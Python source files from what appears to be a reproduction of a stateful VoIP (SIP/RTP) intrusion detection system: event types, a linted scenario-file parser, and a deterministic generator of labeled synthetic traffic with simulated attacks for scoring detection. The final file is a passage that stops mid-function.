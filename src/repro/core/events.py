"""Events and the Event Generator framework (paper §3.1, Figure 2).

"The Event Generator maps footprints into a single event ... it is just
a layer of abstraction, which correlates the information in footprints
and concentrates the information into a single event.  It helps
performance by hiding some computationally expensive matching."

An :class:`Event` names something semantically interesting that one or
more footprints imply (``OrphanRtpAfterBye``, ``ImSourceMismatch``, …).
Generators are stateful objects fed every footprint in arrival order;
they return zero or more events.  The engine fans footprints out to all
registered generators and forwards the produced events to the rule
matching engine.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass, field
from typing import Any

from repro.core.footprint import AnyFootprint, Protocol
from repro.core.state import RegistrationTracker, SipStateTracker
from repro.core.trail import Trail, TrailManager
from repro.net.addr import IPv4Address


def _plain(value: Any) -> Any:
    """Coerce attribute values to JSON-safe types."""
    if isinstance(value, dict):
        return {str(k): _plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple, set)):
        return [_plain(v) for v in value]
    if isinstance(value, (str, int, float, bool)) or value is None:
        return value
    return str(value)


# Canonical event names, so rules and generators cannot drift apart.
EVENT_CALL_ESTABLISHED = "CallEstablished"
EVENT_CALL_TORN_DOWN = "CallTornDown"
EVENT_MEDIA_REDIRECTED = "MediaRedirected"
EVENT_ORPHAN_RTP_AFTER_BYE = "OrphanRtpAfterBye"
EVENT_ORPHAN_RTP_AFTER_REINVITE = "OrphanRtpAfterReinvite"
EVENT_RTP_SEQ_ANOMALY = "RtpSeqAnomaly"
EVENT_RTP_SOURCE_MISMATCH = "RtpSourceMismatch"
EVENT_RTP_JITTER = "RtpJitter"
EVENT_MALFORMED_RTP = "MalformedRtp"
EVENT_MALFORMED_SIP = "MalformedSip"
EVENT_IM_RECEIVED = "ImReceived"
EVENT_IM_SENT = "ImSent"
EVENT_IM_SOURCE_MISMATCH = "ImSourceMismatch"
EVENT_REPEATED_UNAUTH_REGISTER = "RepeatedUnauthRegister"
EVENT_AUTH_FAILURE = "AuthFailure"
EVENT_ACCOUNTING_MISMATCH = "AccountingMismatch"
EVENT_ACCOUNTING_TXN = "AccountingTxn"
EVENT_RTCP_BYE = "RtcpBye"
EVENT_RTP_AFTER_RTCP_BYE = "RtpAfterRtcpBye"
EVENT_SSRC_COLLISION = "SsrcCollision"


@dataclass(frozen=True, slots=True)
class Event:
    """One semantic occurrence derived from footprints."""

    name: str
    time: float
    session: str  # Call-ID or another session discriminator ("" = global)
    attrs: dict[str, Any] = field(default_factory=dict, hash=False, compare=False)
    # The footprints that caused this event (evidence for the analyst).
    evidence: tuple[AnyFootprint, ...] = field(default=(), hash=False, compare=False)

    def __str__(self) -> str:
        return f"[{self.time:9.4f}] {self.name} session={self.session or '-'} {self.attrs}"

    def to_dict(self) -> dict[str, Any]:
        """The one JSON shape for events (see ``Alert.to_dict``)."""
        return {
            "type": "event",
            "name": self.name,
            "time": round(self.time, 6),
            "session": self.session,
            "attrs": _plain(self.attrs),
            "evidence_count": len(self.evidence),
        }


@dataclass(slots=True)
class GeneratorContext:
    """Shared state every generator may consult."""

    trails: TrailManager
    sip_state: SipStateTracker
    registrations: RegistrationTracker
    vantage_ip: str | None = None  # IP of the protected endpoint (client A)
    # MAC of the protected endpoint's NIC.  A host-based IDS knows which
    # frames its own host actually transmitted; an IP-spoofed frame from
    # elsewhere on the segment carries a foreign source MAC and must not
    # count as outbound.  None = trust the IP (network-tap deployment).
    vantage_mac: str | None = None
    # Parsed once at construction: direction checks run per footprint on
    # the hot path, so they compare packed ints, not formatted strings.
    _vantage_packed: int | None = field(default=None, repr=False)

    def __post_init__(self) -> None:
        self._vantage_packed = (
            IPv4Address.parse(self.vantage_ip).packed
            if self.vantage_ip is not None
            else None
        )

    def is_inbound(self, footprint: AnyFootprint) -> bool:
        """Does this footprint arrive at the protected endpoint?"""
        packed = self._vantage_packed
        return packed is None or footprint.dst.ip.packed == packed

    def is_outbound(self, footprint: AnyFootprint) -> bool:
        packed = self._vantage_packed
        if packed is None or footprint.src.ip.packed != packed:
            return False
        return self.vantage_mac is None or footprint.src_mac.value == self.vantage_mac


class EventGenerator(ABC):
    """Base class for all generators."""

    name: str = "generator"
    # The protocols this generator consumes.  The engine dispatches a
    # footprint only to generators whose set contains its protocol;
    # None means "every footprint" (broadcast, the pre-indexing default).
    # Malformed footprints dispatch under their *claimed* protocol, so a
    # SIP-interested generator still sees malformed SIP.
    protocols: frozenset[Protocol] | None = None

    @abstractmethod
    def on_footprint(
        self, footprint: AnyFootprint, trail: Trail, ctx: GeneratorContext
    ) -> list[Event]:
        """Consume one footprint, emit zero or more events."""

    def reset(self) -> None:
        """Drop accumulated state (between experiment runs)."""


from repro.fastpickle import install_fast_pickle

# Events are the bulk of a state checkpoint's object count.
install_fast_pickle(Event)
