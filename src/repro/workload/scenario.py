"""Scenario spec files for the workload generator (``*.workload``).

Same philosophy (and the same :class:`LintIssue` diagnostics) as
``repro.rulespec``: a line-oriented INI dialect where every complaint
points at its exact source line, checked by ``repro workload check``::

    [workload]
    name = ci-mixed
    subscribers = 200
    duration = 3600
    start_hour = 9
    seed = 42

    [persona office]
    weight = 4
    calls_per_hour = 2.0

    [attack bye]
    count = 3
    spacing = 12

Sections:

* ``[workload]`` — exactly one; population size, sim duration (seconds),
  clock start hour, default seed, default ``media_pps``, and an optional
  ``attack_ratio`` (attack sessions per benign session) that resolves
  ``count = auto`` attack sections.
* ``[persona NAME]`` — reweights/overrides a built-in persona, or (for a
  new NAME) derives a fresh one from the defaults.  Keys are the
  :class:`~repro.workload.personas.Persona` fields.
* ``[attack KIND]`` — how many instances of one attack kind to inject
  and the minimum spacing between same-kind injections (rule cooldowns
  are per-session-or-global, so injections of one kind must not overlap
  a cooldown window — the default spacing stays clear of all of them).

``parse_scenario`` returns ``(spec_or_None, issues)``; the spec is only
built when no error-severity issue exists, but the whole file is always
linted.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field, replace

from repro.rulespec.parser import LintIssue
from repro.workload.labels import ATTACK_KINDS, FLOOD_KINDS, PAPER_ATTACKS
from repro.workload.personas import (
    DEFAULT_PERSONAS,
    DIURNAL_PROFILES,
    PERSONA_FIELDS,
    Persona,
    persona_catalog,
)

_SECTION_RE = re.compile(r"^\[\s*(workload|persona|attack)\s*([^\]]*)\]\s*$")
_NAME_RE = re.compile(r"^[A-Za-z][A-Za-z0-9_-]*$")

_WORKLOAD_KEYS = frozenset(
    {
        "name",
        "subscribers",
        "duration",
        "start_hour",
        "seed",
        "media_pps",
        "attack_ratio",
    }
)
_ATTACK_KEYS = frozenset({"count", "spacing", "packets", "pps"})

# Spacing must clear the widest per-kind alert cooldown/threshold window
# (RTP-003 shares a global 5 s cooldown; DOS-001 counts over 10 s).
DEFAULT_ATTACK_SPACING = 12.0

# Volumetric knobs for flood kinds only: how many frames one flood
# injects and at what sustained rate.
DEFAULT_FLOOD_PACKETS = 20_000
DEFAULT_FLOOD_PPS = 1000.0


class ScenarioError(ValueError):
    """A scenario failed to parse; carries the full issue list."""

    def __init__(self, issues: list[LintIssue]) -> None:
        self.issues = issues
        super().__init__("\n".join(str(issue) for issue in issues))


@dataclass(frozen=True, slots=True)
class AttackMix:
    """One attack kind's share of the scenario."""

    kind: str
    count: int  # -1 = auto (resolved from attack_ratio)
    spacing: float = DEFAULT_ATTACK_SPACING
    # Flood kinds only: frames per flood and the sustained injection rate.
    packets: int = DEFAULT_FLOOD_PACKETS
    pps: float = DEFAULT_FLOOD_PPS


@dataclass(frozen=True, slots=True)
class ScenarioSpec:
    """A fully validated workload scenario."""

    name: str = "default"
    subscribers: int = 200
    duration: float = 3600.0
    start_hour: float = 9.0
    seed: int = 42
    media_pps: float = 5.0
    attack_ratio: float | None = None
    personas: tuple[Persona, ...] = DEFAULT_PERSONAS
    attacks: tuple[AttackMix, ...] = tuple(
        AttackMix(kind=kind, count=-1) for kind in PAPER_ATTACKS
    )
    source_path: str = ""

    def with_overrides(self, **overrides) -> "ScenarioSpec":
        return replace(self, **overrides)


DEFAULT_SCENARIO = ScenarioSpec()


@dataclass(slots=True)
class _Section:
    kind: str
    ident: str
    line: int
    entries: dict[str, tuple[str, int]] = field(default_factory=dict)


def _split_sections(text: str, issues: list[LintIssue]) -> list[_Section]:
    sections: list[_Section] = []
    current: _Section | None = None
    for lineno, raw in enumerate(text.splitlines(), start=1):
        line = raw.strip()
        if not line or line.startswith("#") or line.startswith(";"):
            continue
        if line.startswith("["):
            header = _SECTION_RE.match(line)
            if header is None:
                issues.append(
                    LintIssue(
                        lineno,
                        "bad-section",
                        f"malformed section header {line!r} (expected "
                        "[workload], [persona NAME] or [attack KIND])",
                    )
                )
                current = None
                continue
            kind, ident = header.group(1), header.group(2).strip()
            if kind == "workload" and ident:
                issues.append(
                    LintIssue(lineno, "bad-section", "[workload] takes no identifier")
                )
            if kind in ("persona", "attack") and not ident:
                issues.append(
                    LintIssue(lineno, "bad-section", f"[{kind}] needs a name")
                )
            current = _Section(kind=kind, ident=ident, line=lineno)
            sections.append(current)
            continue
        key, eq, value = line.partition("=")
        if not eq:
            issues.append(
                LintIssue(lineno, "bad-line", f"expected key = value, got {line!r}")
            )
            continue
        if current is None:
            issues.append(
                LintIssue(lineno, "orphan-key", "key outside any section")
            )
            continue
        key = key.strip()
        if key in current.entries:
            issues.append(
                LintIssue(
                    lineno,
                    "duplicate-key",
                    f"duplicate key {key!r} (first at line "
                    f"{current.entries[key][1]})",
                )
            )
            continue
        current.entries[key] = (value.strip(), lineno)
    return sections


def _want_float(
    section: _Section,
    key: str,
    issues: list[LintIssue],
    minimum: float | None = None,
    maximum: float | None = None,
) -> float | None:
    entry = section.entries.get(key)
    if entry is None:
        return None
    value, lineno = entry
    try:
        parsed = float(value)
    except ValueError:
        issues.append(
            LintIssue(lineno, "bad-value", f"{key} must be a number, got {value!r}")
        )
        return None
    if minimum is not None and parsed < minimum:
        issues.append(
            LintIssue(lineno, "bad-value", f"{key} must be >= {minimum}, got {parsed}")
        )
        return None
    if maximum is not None and parsed > maximum:
        issues.append(
            LintIssue(lineno, "bad-value", f"{key} must be <= {maximum}, got {parsed}")
        )
        return None
    return parsed


def _want_int(
    section: _Section, key: str, issues: list[LintIssue], minimum: int | None = None
) -> int | None:
    entry = section.entries.get(key)
    if entry is None:
        return None
    value, lineno = entry
    try:
        parsed = int(value)
    except ValueError:
        issues.append(
            LintIssue(
                lineno, "bad-value", f"{key} must be an integer, got {value!r}"
            )
        )
        return None
    if minimum is not None and parsed < minimum:
        issues.append(
            LintIssue(lineno, "bad-value", f"{key} must be >= {minimum}, got {parsed}")
        )
        return None
    return parsed


def _check_keys(
    section: _Section, allowed: frozenset[str], issues: list[LintIssue]
) -> None:
    for key, (_, lineno) in section.entries.items():
        if key not in allowed:
            issues.append(
                LintIssue(
                    lineno,
                    "unknown-key",
                    f"unknown key {key!r} in [{section.kind}] "
                    f"(allowed: {', '.join(sorted(allowed))})",
                )
            )


def _parse_persona(
    section: _Section, issues: list[LintIssue]
) -> Persona | None:
    name = section.ident
    if not _NAME_RE.match(name):
        issues.append(
            LintIssue(section.line, "bad-name", f"invalid persona name {name!r}")
        )
        return None
    _check_keys(section, frozenset(PERSONA_FIELDS), issues)
    base = persona_catalog().get(name, Persona(name=name))
    overrides: dict = {}
    for key, (value, lineno) in section.entries.items():
        if key not in PERSONA_FIELDS:
            continue
        if key == "diurnal":
            if value not in DIURNAL_PROFILES:
                issues.append(
                    LintIssue(
                        lineno,
                        "bad-value",
                        f"unknown diurnal profile {value!r} "
                        f"(have: {', '.join(sorted(DIURNAL_PROFILES))})",
                    )
                )
                continue
            overrides[key] = value
        elif key == "auth_churn":
            lowered = value.lower()
            if lowered not in ("true", "false", "yes", "no", "1", "0"):
                issues.append(
                    LintIssue(
                        lineno, "bad-value", f"{key} must be a boolean, got {value!r}"
                    )
                )
                continue
            overrides[key] = lowered in ("true", "yes", "1")
        else:
            try:
                parsed = float(value)
            except ValueError:
                issues.append(
                    LintIssue(
                        lineno, "bad-value", f"{key} must be a number, got {value!r}"
                    )
                )
                continue
            if parsed < 0:
                issues.append(
                    LintIssue(lineno, "bad-value", f"{key} must be >= 0, got {parsed}")
                )
                continue
            overrides[key] = parsed
    return base.with_overrides(**overrides)


def _parse_attack(section: _Section, issues: list[LintIssue]) -> AttackMix | None:
    kind = section.ident
    if kind not in ATTACK_KINDS:
        issues.append(
            LintIssue(
                section.line,
                "unknown-attack",
                f"unknown attack kind {kind!r} (have: {', '.join(ATTACK_KINDS)})",
            )
        )
        return None
    _check_keys(section, _ATTACK_KEYS, issues)
    count_entry = section.entries.get("count")
    count = -1
    if count_entry is not None:
        value, lineno = count_entry
        if value != "auto":
            try:
                count = int(value)
            except ValueError:
                issues.append(
                    LintIssue(
                        lineno,
                        "bad-value",
                        f"count must be an integer or 'auto', got {value!r}",
                    )
                )
                return None
            if count < 0:
                issues.append(
                    LintIssue(lineno, "bad-value", f"count must be >= 0, got {count}")
                )
                return None
    spacing = _want_float(section, "spacing", issues, minimum=1.0)
    packets = _want_int(section, "packets", issues, minimum=1)
    pps = _want_float(section, "pps", issues, minimum=1.0)
    if kind not in FLOOD_KINDS:
        for key in ("packets", "pps"):
            entry = section.entries.get(key)
            if entry is not None:
                issues.append(
                    LintIssue(
                        entry[1],
                        "bad-key",
                        f"{key} only applies to flood kinds "
                        f"({', '.join(FLOOD_KINDS)})",
                    )
                )
                return None
    return AttackMix(
        kind=kind,
        count=count,
        spacing=spacing if spacing is not None else DEFAULT_ATTACK_SPACING,
        packets=packets if packets is not None else DEFAULT_FLOOD_PACKETS,
        pps=pps if pps is not None else DEFAULT_FLOOD_PPS,
    )


def parse_scenario(
    text: str, path: str = "<string>"
) -> tuple[ScenarioSpec | None, list[LintIssue]]:
    """Parse + lint; the spec is only built when no error was found."""
    issues: list[LintIssue] = []
    sections = _split_sections(text, issues)
    workload_sections = [s for s in sections if s.kind == "workload"]
    if not workload_sections:
        issues.append(LintIssue(1, "missing-section", "no [workload] section"))
    elif len(workload_sections) > 1:
        for extra in workload_sections[1:]:
            issues.append(
                LintIssue(
                    extra.line,
                    "duplicate-section",
                    f"duplicate [workload] (first at line {workload_sections[0].line})",
                )
            )

    name = "default"
    subscribers = duration = start_hour = seed = media_pps = attack_ratio = None
    if workload_sections:
        section = workload_sections[0]
        _check_keys(section, _WORKLOAD_KEYS, issues)
        name_entry = section.entries.get("name")
        if name_entry is not None:
            name = name_entry[0]
            if not _NAME_RE.match(name):
                issues.append(
                    LintIssue(
                        name_entry[1], "bad-name", f"invalid scenario name {name!r}"
                    )
                )
        subscribers = _want_int(section, "subscribers", issues, minimum=2)
        duration = _want_float(section, "duration", issues, minimum=1.0)
        start_hour = _want_float(
            section, "start_hour", issues, minimum=0.0, maximum=24.0
        )
        seed = _want_int(section, "seed", issues, minimum=0)
        media_pps = _want_float(section, "media_pps", issues, minimum=1.0)
        attack_ratio = _want_float(
            section, "attack_ratio", issues, minimum=0.0, maximum=1.0
        )

    personas: dict[str, Persona] = {p.name: p for p in DEFAULT_PERSONAS}
    seen_personas: dict[str, int] = {}
    # Personas that set media_pps themselves win over the [workload]
    # default; everyone else inherits it.
    explicit_media: set[str] = set()
    for section in sections:
        if section.kind != "persona":
            continue
        if "media_pps" in section.entries:
            explicit_media.add(section.ident)
        if section.ident in seen_personas:
            issues.append(
                LintIssue(
                    section.line,
                    "duplicate-section",
                    f"duplicate [persona {section.ident}] "
                    f"(first at line {seen_personas[section.ident]})",
                )
            )
            continue
        seen_personas[section.ident] = section.line
        persona = _parse_persona(section, issues)
        if persona is not None:
            personas[persona.name] = persona

    attacks: dict[str, AttackMix] = {}
    seen_attacks: dict[str, int] = {}
    for section in sections:
        if section.kind != "attack":
            continue
        if section.ident in seen_attacks:
            issues.append(
                LintIssue(
                    section.line,
                    "duplicate-section",
                    f"duplicate [attack {section.ident}] "
                    f"(first at line {seen_attacks[section.ident]})",
                )
            )
            continue
        seen_attacks[section.ident] = section.line
        mix = _parse_attack(section, issues)
        if mix is not None:
            attacks[mix.kind] = mix
            if mix.kind in FLOOD_KINDS:
                # A flood must fit the injectable window (the generator
                # keeps a 30 s edge margin on both sides) or its tail
                # would be silently truncated at the sim horizon.
                window = (
                    duration if duration is not None else DEFAULT_SCENARIO.duration
                ) - 60.0
                span = mix.packets / mix.pps
                if span > window:
                    issues.append(
                        LintIssue(
                            section.line,
                            "flood-overflow",
                            f"flood of {mix.packets} packets at {mix.pps:g} pps "
                            f"spans {span:.0f}s but only {window:.0f}s fit "
                            "inside the duration's edge margins",
                        )
                    )

    if any(issue.severity == "error" for issue in issues):
        return None, [replace(issue, path=path) for issue in issues]

    if media_pps is not None:
        personas = {
            pname: (
                p
                if pname in explicit_media
                else p.with_overrides(media_pps=media_pps)
            )
            for pname, p in personas.items()
        }
    persona_tuple = tuple(personas.values())
    if all(p.weight <= 0 for p in persona_tuple):
        issues.append(
            LintIssue(1, "no-personas", "every persona has zero weight")
        )
        return None, [replace(issue, path=path) for issue in issues]

    spec = DEFAULT_SCENARIO.with_overrides(
        name=name,
        personas=persona_tuple,
        source_path=path,
        **{
            key: value
            for key, value in (
                ("subscribers", subscribers),
                ("duration", duration),
                ("start_hour", start_hour),
                ("seed", seed),
                ("media_pps", media_pps),
                ("attack_ratio", attack_ratio),
            )
            if value is not None
        },
    )
    if attacks:
        spec = spec.with_overrides(attacks=tuple(attacks.values()))
    return spec, [replace(issue, path=path) for issue in issues]


def lint_text(text: str, path: str = "<string>") -> list[LintIssue]:
    return parse_scenario(text, path)[1]


def lint_path(path: str) -> list[LintIssue]:
    with open(path, "r", encoding="utf-8") as handle:
        return lint_text(handle.read(), path)


def load_scenario(path: str) -> ScenarioSpec:
    """Parse a scenario file; raise :class:`ScenarioError` on any error."""
    with open(path, "r", encoding="utf-8") as handle:
        spec, issues = parse_scenario(handle.read(), path)
    errors = [issue for issue in issues if issue.severity == "error"]
    if spec is None or errors:
        raise ScenarioError(errors or issues)
    return spec
