"""Virtual-carrier workload generation with ground-truth labels.

This package synthesises realistic SIP/RTP carrier traffic — a
population of persona-driven subscribers placing calls, messaging, and
re-registering on diurnal schedules — and mixes in the paper's attack
scenarios at a configurable ratio.  Every frame is stamped with a
ground-truth label, so the detection-quality evaluator
(:mod:`repro.experiments.quality`) can score the stateful engine, the
cluster, and the stateless baseline against what *actually* happened.

Entry points:

* :func:`generate_workload` — spec → labeled :class:`~repro.sim.trace.Trace`
* :func:`load_scenario` / :func:`lint_path` — INI scenario specs
* :data:`DEFAULT_SCENARIO` — 200 subscribers, 1 sim-hour, all four
  paper attacks (the CI quality gate's trace)
"""

from repro.workload.forge import FrameForge, Subscriber, TimedFrame
from repro.workload.generator import (
    ATTACK_DEADLINES,
    WorkloadGenerator,
    WorkloadResult,
    WorkloadStats,
    attack_deadline,
    generate_workload,
    trace_digest,
)
from repro.workload.labels import (
    ATTACK_KINDS,
    ATTACK_RULES,
    FLOOD_KINDS,
    PAPER_ATTACKS,
    GroundTruth,
    SessionLabel,
)
from repro.workload.personas import (
    DEFAULT_PERSONAS,
    DIURNAL_PROFILES,
    DiurnalProfile,
    Persona,
    persona_catalog,
)
from repro.workload.scenario import (
    DEFAULT_SCENARIO,
    AttackMix,
    ScenarioError,
    ScenarioSpec,
    lint_path,
    lint_text,
    load_scenario,
    parse_scenario,
)

__all__ = [
    "ATTACK_DEADLINES",
    "ATTACK_KINDS",
    "ATTACK_RULES",
    "AttackMix",
    "DEFAULT_PERSONAS",
    "DEFAULT_SCENARIO",
    "DIURNAL_PROFILES",
    "DiurnalProfile",
    "FLOOD_KINDS",
    "FrameForge",
    "GroundTruth",
    "PAPER_ATTACKS",
    "Persona",
    "ScenarioError",
    "ScenarioSpec",
    "SessionLabel",
    "Subscriber",
    "TimedFrame",
    "WorkloadGenerator",
    "WorkloadResult",
    "WorkloadStats",
    "attack_deadline",
    "generate_workload",
    "lint_path",
    "lint_text",
    "load_scenario",
    "parse_scenario",
    "persona_catalog",
    "trace_digest",
]
