"""Deterministic assembly of a virtual-carrier trace from a scenario.

The generator walks the subscriber population in index order, draws
per-hour Poisson activity (calls, IM conversations, re-registrations)
from each subscriber's persona — modulated by the persona's diurnal
profile over the sim clock — then injects the scenario's attack mix as
dedicated victim sessions at spaced times.  Every frame gets a label id
into the :class:`~repro.workload.labels.GroundTruth` table.

Determinism: one ``random.Random(seed)`` drives everything, scheduling
happens in a fixed order, and the final timeline is a stable sort by
``(timestamp, emission order)``.  Same seed + same spec → byte-identical
trace and identical labels (the determinism tests enforce this).
"""

from __future__ import annotations

import hashlib
import math
import struct
from dataclasses import dataclass, field
from random import Random

from repro.net.pcap import quantize_timestamp, split_timestamp
from repro.sim.trace import Trace
from repro.workload.forge import FrameForge, Subscriber, TimedFrame
from repro.workload.labels import (
    ATTACK_BYE,
    ATTACK_FAKE_IM,
    ATTACK_HIJACK,
    ATTACK_INVITE_FLOOD,
    ATTACK_REGISTER_DOS,
    ATTACK_REGISTER_FLOOD,
    ATTACK_RTP,
    ATTACK_RTP_FLOOD,
    ATTACK_RULES,
    BENIGN_CALL,
    BENIGN_IM,
    BENIGN_REGISTRATION,
    FLOOD_KINDS,
    GroundTruth,
    SessionLabel,
)
from repro.workload.scenario import AttackMix, ScenarioSpec

# Alerts later than injection + deadline don't count as detections.
# Flood kinds are pressure labels: their entry is *slack past the last
# flood frame* (the window is injection + packets/pps + slack), wide
# enough that shed-triggered side alerts attribute to the flood.
ATTACK_DEADLINES: dict[str, float] = {
    ATTACK_BYE: 5.0,
    ATTACK_HIJACK: 5.0,
    ATTACK_FAKE_IM: 5.0,
    ATTACK_RTP: 5.0,
    ATTACK_REGISTER_DOS: 10.0,
    ATTACK_INVITE_FLOOD: 10.0,
    ATTACK_REGISTER_FLOOD: 10.0,
    ATTACK_RTP_FLOOD: 10.0,
}


def attack_deadline(mix: AttackMix) -> float:
    """Detection window length for one attack mix (seconds past injection)."""
    base = ATTACK_DEADLINES[mix.kind]
    if mix.kind in FLOOD_KINDS:
        return mix.packets / mix.pps + base
    return base

# Keep attack injections away from the trace edges so victim sessions
# fully set up and detection windows fully close.
_EDGE_MARGIN = 30.0
_DEFAULT_AUTO_RATIO = 0.01


@dataclass(slots=True)
class WorkloadStats:
    """Counts the generator reports (and the bench normalises against)."""

    subscribers: int = 0
    frames: int = 0
    wire_bytes: int = 0
    duration: float = 0.0
    benign_sessions: dict[str, int] = field(default_factory=dict)
    attack_sessions: dict[str, int] = field(default_factory=dict)
    personas: dict[str, int] = field(default_factory=dict)
    underdelivered: dict[str, int] = field(default_factory=dict)

    def as_dict(self) -> dict:
        return {
            "subscribers": self.subscribers,
            "frames": self.frames,
            "wire_bytes": self.wire_bytes,
            "duration": self.duration,
            "benign_sessions": dict(self.benign_sessions),
            "attack_sessions": dict(self.attack_sessions),
            "personas": dict(self.personas),
            "underdelivered": dict(self.underdelivered),
        }


@dataclass(slots=True)
class WorkloadResult:
    """A generated labeled trace."""

    trace: Trace
    truth: GroundTruth
    stats: WorkloadStats


def _poisson(rng: Random, lam: float) -> int:
    """Knuth's sampler — fine for the per-bucket rates personas produce."""
    if lam <= 0.0:
        return 0
    threshold = math.exp(-lam)
    k = 0
    product = rng.random()
    while product > threshold:
        k += 1
        product *= rng.random()
    return k


def _call_duration(rng: Random, persona) -> float:
    sigma = persona.call_seconds_sigma
    mu = math.log(max(persona.call_seconds_mean, 1.0)) - sigma * sigma / 2.0
    return max(persona.call_seconds_min, math.exp(rng.gauss(mu, sigma)))


def _arrivals(
    rng: Random, per_hour: float, profile, start_hour: float, duration: float
) -> list[float]:
    """Poisson arrival times over [0, duration), hour-bucketed so the
    diurnal profile modulates the rate."""
    times: list[float] = []
    bucket_start = 0.0
    while bucket_start < duration:
        bucket_end = min(bucket_start + 3600.0, duration)
        span = bucket_end - bucket_start
        factor = profile.factor(bucket_start, start_hour)
        expected = per_hour * factor * span / 3600.0
        for _ in range(_poisson(rng, expected)):
            times.append(bucket_start + rng.random() * span)
        bucket_start = bucket_end
    times.sort()
    return times


class WorkloadGenerator:
    """Assembles one labeled trace from a scenario spec."""

    def __init__(self, spec: ScenarioSpec, seed: int | None = None) -> None:
        self.spec = spec
        self.seed = spec.seed if seed is None else seed
        self.rng = Random(self.seed)
        self.forge = FrameForge()
        self.truth = GroundTruth(scenario=spec.name, seed=self.seed)
        self.stats = WorkloadStats(
            subscribers=spec.subscribers, duration=spec.duration
        )
        self._frames: list[TimedFrame] = []
        self._attacker_serial = 0

    # -- public entry -----------------------------------------------------------

    def generate(self) -> WorkloadResult:
        personas = self._assign_personas()
        for index in range(self.spec.subscribers):
            self._schedule_subscriber(index, personas[index])
        self._schedule_attacks()
        trace = self._assemble()
        self.stats.frames = len(trace)
        self.stats.wire_bytes = trace.total_bytes
        return WorkloadResult(trace=trace, truth=self.truth, stats=self.stats)

    # -- population --------------------------------------------------------------

    def _assign_personas(self) -> list:
        population = [p for p in self.spec.personas if p.weight > 0]
        weights = [p.weight for p in population]
        assigned = self.rng.choices(
            population, weights=weights, k=self.spec.subscribers
        )
        for persona in assigned:
            self.stats.personas[persona.name] = (
                self.stats.personas.get(persona.name, 0) + 1
            )
        return assigned

    def _peer_for(self, index: int) -> Subscriber:
        peer = self.rng.randrange(self.spec.subscribers - 1)
        if peer >= index:
            peer += 1
        return self.forge.subscriber(peer)

    def _schedule_subscriber(self, index: int, persona) -> None:
        spec = self.spec
        sub = self.forge.subscriber(index)
        profile = persona.profile()
        rng = self.rng
        for start in _arrivals(
            rng, persona.calls_per_hour, profile, spec.start_hour, spec.duration
        ):
            duration = _call_duration(rng, persona)
            # A call needs ~0.6 s of signalling around the media; truncate
            # rather than spill past the sim horizon.
            duration = min(duration, spec.duration - start - 2.0)
            if duration < persona.call_seconds_min:
                continue
            frames, handle = self.forge.call(
                sub, self._peer_for(index), start, duration, persona.media_pps, rng
            )
            self._label_benign(
                BENIGN_CALL,
                handle.call_id,
                frames,
                (sub.aor, handle.callee.aor),
            )
        for start in _arrivals(
            rng, persona.ims_per_hour, profile, spec.start_hour, spec.duration
        ):
            count = 1 + _poisson(rng, max(persona.im_burst_mean - 1.0, 0.0))
            spacing = 2.0 + rng.random() * 3.0
            if start + count * spacing > spec.duration:
                count = max(1, int((spec.duration - start) / spacing))
            peer = self._peer_for(index)
            frames, call_id = self.forge.im_conversation(
                sub, peer, start, count, spacing
            )
            self._label_benign(BENIGN_IM, call_id, frames, (sub.aor, peer.aor))
        for start in _arrivals(
            rng, persona.registers_per_hour, profile, spec.start_hour, spec.duration
        ):
            if start + 1.0 > spec.duration:
                continue
            frames, call_id = self.forge.registration(
                sub, start, auth_churn=persona.auth_churn
            )
            self._label_benign(BENIGN_REGISTRATION, call_id, frames, (sub.aor,))

    def _label_benign(
        self, kind: str, session: str, frames: list[TimedFrame], aors: tuple[str, ...]
    ) -> None:
        if not frames:
            return
        for frame in frames:
            frame.time = quantize_timestamp(frame.time)
        label_id = len(self.truth.labels)
        self.truth.add(
            SessionLabel(
                label_id=label_id,
                kind=kind,
                session=session,
                start=min(f.time for f in frames),
                end=max(f.time for f in frames),
                subscribers=aors,
            )
        )
        for frame in frames:
            frame.label = label_id
        self._frames.extend(frames)
        self.stats.benign_sessions[kind] = self.stats.benign_sessions.get(kind, 0) + 1

    # -- attacks -----------------------------------------------------------------

    def _resolve_attack_counts(self) -> list[tuple[AttackMix, int]]:
        """Fixed counts pass through; ``auto`` counts split the attack
        ratio's session budget across the auto kinds."""
        mixes = list(self.spec.attacks)
        auto = [m for m in mixes if m.count < 0]
        if auto:
            ratio = (
                self.spec.attack_ratio
                if self.spec.attack_ratio is not None
                else _DEFAULT_AUTO_RATIO
            )
            benign_total = max(1, sum(self.stats.benign_sessions.values()))
            budget = max(len(auto), round(ratio * benign_total))
            share, remainder = divmod(budget, len(auto))
            resolved = []
            for i, mix in enumerate(mixes):
                if mix.count < 0:
                    position = auto.index(mix)
                    count = share + (1 if position < remainder else 0)
                    resolved.append((mix, max(1, count)))
                else:
                    resolved.append((mix, mix.count))
            return resolved
        return [(m, m.count) for m in mixes]

    def _injection_times(
        self, count: int, spacing: float, deadline: float
    ) -> list[float]:
        """``count`` injection times in the usable window, min ``spacing``
        apart.

        Pinned counts are a contract: the schedule always delivers all
        ``count`` times.  The window's upper edge leaves room for the
        detection deadline, and when the window cannot hold ``count``
        injections at the requested spacing the schedule falls back to an
        even spread (spacing shrinks; the count does not).
        """
        if count <= 0:
            return []
        lo = _EDGE_MARGIN
        hi = max(lo + 1.0, self.spec.duration - max(_EDGE_MARGIN, deadline))
        span = hi - lo
        if (count - 1) * spacing > span:
            step = span / count
            return [lo + step * (i + 0.5) for i in range(count)]
        times = sorted(lo + self.rng.random() * span for _ in range(count))
        for i in range(1, count):
            if times[i] - times[i - 1] < spacing:
                times[i] = times[i - 1] + spacing
        # The fix-up only ever pushes times later; pull any overflow back
        # from the tail, preserving spacing (feasible by the check above).
        if times[-1] > hi:
            times[-1] = hi
            for i in range(count - 2, -1, -1):
                if times[i + 1] - times[i] < spacing:
                    times[i] = times[i + 1] - spacing
        return times

    def _next_attacker(self) -> Subscriber:
        self._attacker_serial += 1
        return self.forge.attacker(self._attacker_serial)

    def _victim_pair(self) -> tuple[Subscriber, Subscriber]:
        caller_index = self.rng.randrange(self.spec.subscribers)
        caller = self.forge.subscriber(caller_index)
        return caller, self._peer_for(caller_index)

    def _schedule_attacks(self) -> None:
        for mix, count in self._resolve_attack_counts():
            kind = mix.kind
            deadline = attack_deadline(mix)
            injected = 0
            for when in self._injection_times(count, mix.spacing, deadline):
                if when + deadline > self.spec.duration:
                    # Only reachable when the duration is shorter than the
                    # edge margins themselves; surfaced via stats rather
                    # than silently shrinking the requested count.
                    continue
